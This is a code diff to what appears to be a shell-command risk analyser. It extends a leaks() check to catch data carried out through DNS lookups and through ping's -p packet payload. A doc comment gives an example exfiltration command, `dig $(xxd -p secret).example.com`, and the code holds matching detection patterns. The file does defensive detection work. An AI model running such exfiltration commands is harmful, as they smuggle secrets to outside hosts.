@@ -5,6 +5,7 @@ import { isPrivate } from '../targets/paths.ts'
 import { matchesAny } from '../tools/pattern.ts'
 import type { ReadyTool } from '../tools/table.ts'
 import { emptiesStore, isDeletingOption, powerKind, verbKind } from '../verbs.ts'
+import { unknown } from './flow.ts'
 import type { Program } from './program.ts'
 import { serviceKinds, sourceKinds, uploadKinds } from './services.ts'
 import { shown } from './situation.ts'
@@ -43,9 +44,11 @@ function spokenKinds(program: Program): readonly KindId[] {
 
 /** `dig $(xxd -p secret).example.com`: what is asked for carries data out, and so does a file of questions. */
 function leaks(program: Program): boolean {
-  const { argv, given } = program
+  const { argv, given, name } = program
   return (
     argv.some((value) => value.flow.secret || /(?:\)|`)\.[\w-]+\.\w/.test(value.source)) ||
+    // What ping fills its packets with.
+    (name === 'ping' && argv.some(({ text }, at) => argv[at - 1]?.text === '-p' && text.includes(unknown))) ||
     given.options.some((option) => option.value !== undefined && isPrivate(option.value)) ||
     given.positionals.some((word) => /^[/~]/.test(word) && isPrivate(word))
   )
